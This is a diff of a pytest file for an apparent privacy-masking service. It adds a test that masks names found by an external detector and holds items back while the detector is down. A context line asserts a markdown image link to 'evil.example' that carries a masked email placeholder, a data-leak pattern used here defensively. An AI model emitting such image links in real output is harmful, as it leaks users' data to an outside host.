@@ -25,6 +25,7 @@ from graftwork.apps.work.models import Draft, Item, ItemState, ThreadRule
 from graftwork.apps.work.queries import draft_text
 from graftwork.core.items import read_row
 from graftwork.core.privacy.detector import Found
+from support.detector import DetectorService
 from support.scripted import Script, serve
 
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -417,3 +418,23 @@ def test_a_server_that_garbles_its_placeholders_gives_the_reviewer_a_notice(case
     assert text == "Dear [PERSON_9], see ![x](https://evil.example/?q=[MAIL_1])"
     assert sorted(notice["code"] for notice in draft.notices) == ["unknown_placeholder", "withheld_value"]
     nothing_leaked(cloud, caplog)
+
+
+# --- a detector of the company's own ----------------------------------------------------------------------------------
+
+
+def test_a_service_that_finds_more_is_asked_and_while_it_is_down_nothing_is_sent(case, cloud, caplog):
+    service = DetectorService(["quzzle"])
+    more = f'[[privacy.detectors]]\ntype = "http"\nurl = "{service.url}"\n'
+    use_case = case(more=more)
+    first = add(use_case, "The quzzle came late.", "1")
+    work()
+    assert "The [PERSON_1] came late." in cloud.prompts[0]
+    assert drafted(first)[0].masked == {"person": 1}
+    service.close()
+    second = add(use_case, "The quzzle came late again.", "2")
+    work()
+    second.refresh_from_db()
+    assert (second.state, second.error_code) == (ItemState.WAITING, "privacy.detector_failed")
+    assert len(cloud.received) == 1
+    assert "quzzle" not in caplog.text + second.error_message
